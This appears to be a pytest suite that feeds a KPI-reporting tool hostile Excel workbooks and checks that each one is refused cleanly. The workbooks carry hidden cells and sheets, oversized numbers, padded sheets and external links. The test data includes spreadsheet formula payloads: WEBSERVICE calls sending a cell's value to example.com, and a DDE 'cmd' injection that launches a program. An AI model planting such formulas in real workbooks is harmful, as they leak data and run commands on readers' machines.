"""Hostile and tricky workbooks through the real ``kpi`` (subprocess), bounded in time and memory.

Every refusal: non-zero exit, a Chinese message naming the sheet and cell, no traceback, and
nothing recorded in the ledger. And what is scored is what the clerk and the reviewer see.
"""

from __future__ import annotations

import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from wbhelpers import ROOT, YEAR, edit_workbook, key_cells

from kpiengine.workbook import layout as L
from tests.conftest import assert_clean_failure

TIME = 120  # seconds; a hang is what this catches (1,000,000 rows took 458 s before)
MEMORY = 1024  # MB of address space for the child


@pytest.fixture
def base(tmp_path: Path) -> Path:
    """moj's sample workbook, marked as an official fill-in (valid, every KPI filled)."""
    return edit_workbook(ROOT / "actuals" / str(YEAR) / "moj.xlsx", tmp_path / "moj-base.xlsx",
                         meta={L.META_KIND: L.KIND_TEMPLATE})


@pytest.fixture
def ledger(tmp_path: Path) -> Path:
    return tmp_path / "var" / "ledger.sqlite"


def where(path: Path, key: str) -> str:
    """sheet!cell of a key's value cell."""
    wb = load_workbook(path)
    row, col = key_cells(wb[L.DATA_SHEET])[key]
    return f"{L.DATA_SHEET}!{chr(64 + col)}{row}"


def member_of(path: Path, sheet: str = L.DATA_SHEET) -> str:
    wb = load_workbook(path, read_only=True)
    try:
        return wb[sheet]._worksheet_path
    finally:
        wb.close()


def rewrite(path: Path, member: str, change, extra: dict[str, bytes] | None = None) -> Path:
    """Rewrite one zip member (bytes → bytes) and add members, as a hostile writer would."""
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info, change(data) if info.filename == member else data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    tmp.replace(path)
    return path


def refused(kpi_cli, path: Path, ledger: Path, *needles: str) -> str:
    """validate and submit both refuse (naming what is given), and the ledger records nothing."""
    v = kpi_cli("validate", path, timeout=TIME, memory_mb=MEMORY)
    assert_clean_failure(v, *needles)
    s = kpi_cli("submit", path, "--year", YEAR, "--ledger", ledger, timeout=TIME, memory_mb=MEMORY)
    assert_clean_failure(s, *needles)
    assert "已收件" not in s.stdout
    listed = kpi_cli("submissions", "--ledger", ledger, "--format", "json", timeout=TIME)
    assert listed.returncode == 0 and json.loads(listed.stdout or "[]") == [], listed.stdout
    return v.stdout + v.stderr


# --- numbers without bounds ------------------------------------------------------------------

@pytest.mark.parametrize(("typed", "says"), [
    ("9" * 5000, "過長"),
    ("9" * 1_000_000, "過長"),
    ("9" * 31, "有效位數"),
    ("8329¹", "上標"),
    ("12 34", "空白"),
    ("1_000", "1_000"),
    ("2,5,0,0", "2,5,0,0"),
])
def test_typed_number_refused_at_its_cell(kpi_cli, base: Path, ledger: Path, typed: str, says: str) -> None:
    key = "moj.1.2:seized_kg"
    path = edit_workbook(base, base.with_name("typed.xlsx"), values={key: typed})
    out = refused(kpi_cli, path, ledger, where(path, key), says)
    assert len(out) < 20_000  # the message quotes the start of a long text, never all of it


def test_1e400_in_a_numeric_cell(kpi_cli, base: Path, ledger: Path) -> None:
    key = "moj.1.2:seized_kg"
    path = edit_workbook(base, base.with_name("inf.xlsx"), values={key: 987654321})
    rewrite(path, member_of(path), lambda xml: xml.replace(b"<v>987654321</v>", b"<v>1e400</v>"))
    refused(kpi_cli, path, ledger, where(path, key), "有限")


# --- what is scored is what the clerk and the reviewer see ----------------------------------

def score_actual(kpi_cli, path: Path, ledger: Path, kpi_id: str) -> str:
    s = kpi_cli("submit", path, "--year", YEAR, "--ledger", ledger, "--confirm-warnings", timeout=TIME, memory_mb=MEMORY)
    assert s.returncode == 0, s.stdout + s.stderr
    sc = kpi_cli("score", "--year", YEAR, "--agency", "moj", "--ledger", ledger, "--format", "json", timeout=TIME)
    assert sc.returncode == 0, sc.stderr
    (rec,) = [r for r in json.loads(sc.stdout) if r["id"] == kpi_id]
    return rec["actual_exact"]


def test_header_text_in_a_hidden_column_does_not_move_the_value(kpi_cli, base: Path, ledger: Path) -> None:
    """Typing 填報值 into hidden H1 made the engine read column H (99999) instead of C (8329.9)."""
    key = "moj.1.2:seized_kg"
    path = edit_workbook(base, base.with_name("header.xlsx"), values={key: 8329.9})
    wb = load_workbook(path)
    ws = wb[L.DATA_SHEET]
    row, _ = key_cells(ws)[key]
    ws["H1"] = L.VALUE_HEADER
    ws.cell(row=row, column=8).value = 99999
    ws.column_dimensions["H"].hidden = True
    wb.save(path)
    assert score_actual(kpi_cli, path, ledger, "moj.1.2") == "8329.9"


def test_value_in_a_hidden_row_is_an_error(kpi_cli, base: Path, ledger: Path) -> None:
    key = "moj.1.2:seized_kg"
    path = edit_workbook(base, base.with_name("hidden-row.xlsx"), values={key: 99999})
    wb = load_workbook(path)
    ws = wb[L.DATA_SHEET]
    ws.row_dimensions[key_cells(ws)[key][0]].hidden = True
    wb.save(path)
    refused(kpi_cli, path, ledger, where(path, key), "wb-hidden-input", "隱藏")


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_keys_on_a_hidden_sheet_are_an_error(kpi_cli, base: Path, ledger: Path, state: str) -> None:
    wb = load_workbook(base)
    extra = wb.create_sheet("補充")
    extra["A1"] = "moj.99.1:x"
    extra["C1"] = 99999
    extra.sheet_state = state
    path = base.with_name(f"{state}.xlsx")
    wb.save(path)
    refused(kpi_cli, path, ledger, "wb-hidden-sheet", "補充", "A1")


def pad_rows(n: int):
    """n rows after the data, each with one cell in column XFD (the issue's 7.4 MB file at n = 1,000,000)."""
    def change(xml: bytes) -> bytes:
        rows = b"".join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (r, r) for r in range(1000, 1000 + n))
        return xml.replace(b"</sheetData>", rows + b"</sheetData>")
    return change


@pytest.mark.parametrize("n", [30_000, 1_000_000])
def test_padded_sheet_refused_without_iterating(kpi_cli, base: Path, ledger: Path, n: int) -> None:
    path = shutil.copy(base, base.with_name(f"padded-{n}.xlsx"))
    rewrite(Path(path), member_of(Path(path)), pad_rows(n))
    refused(kpi_cli, Path(path), ledger, "wb-sheet-too-large", L.DATA_SHEET)


def test_cells_far_right_within_bounds_cost_what_exists(kpi_cli, base: Path, ledger: Path) -> None:
    """5,000 rows with a cell in XFD: read (only columns A–J are looked at), valid, scored."""
    path = Path(shutil.copy(base, base.with_name("far-right.xlsx")))
    rewrite(path, member_of(path), pad_rows(5_000))
    v = kpi_cli("validate", path, timeout=TIME, memory_mb=MEMORY)
    assert v.returncode == 0, v.stdout[-3000:]


@pytest.mark.parametrize(("where_", "formula"), [
    ("cover", 'WEBSERVICE("http://example.com/?"&B3)'),
    ("data-note", 'WEBSERVICE("http://example.com/")'),
    ("cover", "cmd|' /C calc'!A0"),
    ("cover", "[1]Sheet1!A1"),
])
def test_fetching_formulas_refused_anywhere(kpi_cli, base: Path, ledger: Path, where_: str, formula: str) -> None:
    wb = load_workbook(base)
    ws = wb[L.COVER_SHEET] if where_ == "cover" else wb[L.DATA_SHEET]
    ws["H40"] = "=" + formula
    path = base.with_name("active.xlsx")
    wb.save(path)
    refused(kpi_cli, path, ledger, "wb-active-content", "資訊安全")


def test_external_link_part_refused(kpi_cli, base: Path, ledger: Path) -> None:
    path = Path(shutil.copy(base, base.with_name("link.xlsx")))
    rewrite(path, "", lambda b: b, extra={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    refused(kpi_cli, path, ledger, "wb-active-content", "externalLink1.xml")


# --- workbook traps for the clerk --------------------------------------------------------------

def test_count_shown_rounded_names_both(kpi_cli, base: Path, ledger: Path) -> None:
    key = "moj.1.1:indicted"
    path = edit_workbook(base, base.with_name("count.xlsx"), values={key: 2500.5}, formats={key: "#,##0"})
    refused(kpi_cli, path, ledger, where(path, key), "2500.5", "2,501")


def test_format_hiding_digits_is_an_error(kpi_cli, base: Path, ledger: Path) -> None:
    key = "moj.1.2:seized_kg"
    path = edit_workbook(base, base.with_name("scaled.xlsx"), values={key: 1234567}, formats={key: "#,##0,"})
    refused(kpi_cli, path, ledger, where(path, key), "wb-display-differs", "1,235", "1234567")
    path = edit_workbook(base, base.with_name("blank.xlsx"), values={key: 1234567}, formats={key: ";;;"})
    refused(kpi_cli, path, ledger, where(path, key), "wb-display-differs", "空白")


def test_percent_as_fraction_needs_acknowledgement(kpi_cli, base: Path, ledger: Path) -> None:
    key = "moj.7.1:participant_sat"
    path = edit_workbook(base, base.with_name("percent.xlsx"), values={key: 0.9})
    v = kpi_cli("validate", path, timeout=TIME)
    assert v.returncode == 0 and "wb-percent-fraction" in v.stdout
    s = kpi_cli("submit", path, "--year", YEAR, "--ledger", ledger, timeout=TIME)
    assert_clean_failure(s, "--confirm-warnings", "wb-percent-fraction", where(path, key))
    listed = kpi_cli("submissions", "--ledger", ledger, "--format", "json", timeout=TIME)
    assert json.loads(listed.stdout or "[]") == []
    s = kpi_cli("submit", path, "--year", YEAR, "--ledger", ledger, "--confirm-warnings", timeout=TIME)
    assert s.returncode == 0 and "已收件" in s.stdout, s.stdout + s.stderr


def test_stage_ticked_after_a_gap_needs_acknowledgement(kpi_cli, base: Path, ledger: Path) -> None:
    """法務部 三-1: stage 3 ticked while stage 2 is not done: it will not count (README "Stage KPIs"), so say so."""
    keys = {"moj.3.1:s1": 1, "moj.3.1:s2": 0, "moj.3.1:s3": 1}
    path = edit_workbook(base, base.with_name("stages.xlsx"), values=keys)
    v = kpi_cli("validate", path, "--format", "json", timeout=TIME)
    assert v.returncode == 0, v.stdout + v.stderr
    (p,) = [p for p in json.loads(v.stdout)["problems"] if p["code"] == "wb-stage-order"]
    assert p["severity"] == "warning" and p["kpi"] == "moj.3.1"
    assert p["cell"] == ",".join(where(path, k).split("!")[1] for k in ("moj.3.1:s2", "moj.3.1:s3"))
    assert "實際值以 90.00% 計" in p["message"] and "尚未完成" in p["message"]
    s = kpi_cli("submit", path, "--year", YEAR, "--ledger", ledger, timeout=TIME)
    assert_clean_failure(s, "--confirm-warnings", "wb-stage-order")
    assert not ledger.exists() or json.loads(kpi_cli("submissions", "--ledger", ledger, "--format", "json").stdout) == []
    s = kpi_cli("submit", path, "--year", YEAR, "--ledger", ledger, "--confirm-warnings", timeout=TIME)
    assert s.returncode == 0 and "已收件" in s.stdout, s.stdout + s.stderr
    scored = kpi_cli("score", "--year", YEAR, "--agency", "moj", "--ledger", ledger, "--format", "json", timeout=TIME)
    (row,) = [r for r in json.loads(scored.stdout) if r["id"] == "moj.3.1"]
    assert row["actual_exact"] == "90"


def test_untouched_template_is_not_a_version_by_accident(kpi_cli, tmp_path: Path, ledger: Path) -> None:
    """An empty template would become the version in force and blank the year: submitting it must be deliberate."""
    made = kpi_cli("template", "--year", YEAR, "--agency", "moj", "--out", tmp_path / "t", timeout=TIME)
    assert made.returncode == 0, made.stdout + made.stderr
    (template,) = (tmp_path / "t").glob("*.xlsx")
    v = kpi_cli("validate", template, "--format", "json", timeout=TIME)
    assert v.returncode == 0, v.stdout + v.stderr
    (p,) = [p for p in json.loads(v.stdout)["problems"] if p["code"] == "wb-nothing-filled"]
    assert p["severity"] == "warning" and "17 項指標都沒有填任何數值" in p["message"]
    s = kpi_cli("submit", template, "--ledger", ledger, timeout=TIME)
    assert_clean_failure(s, "--confirm-warnings", "wb-nothing-filled")
    assert not ledger.exists() or json.loads(kpi_cli("submissions", "--ledger", ledger, "--format", "json").stdout) == []
    s = kpi_cli("submit", template, "--ledger", ledger, "--confirm-warnings", timeout=TIME)
    assert s.returncode == 0 and "第 1 版" in s.stdout, s.stdout + s.stderr


def test_blank_kpi_reported_at_its_input_cells(kpi_cli, base: Path) -> None:
    keys = ["moj.8.1:effective", "moj.8.1:closed", "moj.8.1:pending"]
    path = edit_workbook(base, base.with_name("blank-kpi.xlsx"), values={k: None for k in keys})
    v = kpi_cli("validate", path, "--format", "json", timeout=TIME)
    (p,) = [p for p in json.loads(v.stdout)["problems"] if p["code"] == "wb-not-given" and p.get("kpi") == "moj.8.1"]
    assert p["cell"] == ",".join(where(path, k).split("!")[1] for k in keys)


def test_note_in_an_inserted_row_is_reported(kpi_cli, base: Path) -> None:
    wb = load_workbook(base)
    ws = wb[L.DATA_SHEET]
    row, _ = key_cells(ws)["moj.8.1:pending"]
    ws.insert_rows(row + 1)
    ws.cell(row=row + 1, column=2).value = "備註：未結案件含移送中案件"
    path = base.with_name("note.xlsx")
    wb.save(path)
    v = kpi_cli("validate", path, timeout=TIME)
    assert v.returncode == 0 and "wb-note-ignored" in v.stdout and "備註：未結案件含移送中案件" in v.stdout
    assert f"B{row + 1}" in v.stdout


def test_forgotten_ratings_grouped_below_the_error(kpi_cli, base: Path) -> None:
    wb = load_workbook(base)
    ws = wb[L.DATA_SHEET]
    for k, (row, col) in key_cells(ws).items():
        if k.endswith(L.RATING):
            ws.cell(row=row, column=col).value = None
    row, col = key_cells(ws)["moj.1.2:seized_kg"]
    ws.cell(row=row, column=col).value = "abc"
    path = base.with_name("ratings.xlsx")
    wb.save(path)
    v = kpi_cli("validate", path, timeout=TIME)
    lines = [x for x in v.stdout.splitlines() if x.startswith(("錯誤", "警告"))]
    assert lines[0].startswith("錯誤") and "wb-not-number" in lines[0]
    rating_lines = [x for x in lines if "wb-rating-missing" in x]
    assert len(rating_lines) == 1 and re.search(r"共 \d+ 處", rating_lines[0])


def test_cover_says_what_clerks_can_do(base: Path) -> None:
    wb = load_workbook(base)
    text = " ".join(str(c.value) for row in wb[L.COVER_SHEET].iter_rows() for c in row if c.value)
    assert "kpi validate" not in text and "上傳後系統會立即檢查" in text


def test_what_was_typed_is_what_the_ledger_holds(kpi_cli, base: Path, ledger: Path) -> None:
    """28-digit Decimal division once stored 1234567890123456789012345678901234567891 as …79000000000000."""
    key = "moj.1.2:seized_kg"
    typed = "123456789012345678901234.567891"  # 30 significant digits: the bound, kept exactly
    path = edit_workbook(base, base.with_name("exact.xlsx"), values={key: typed})
    assert score_actual(kpi_cli, path, ledger, "moj.1.2") == typed
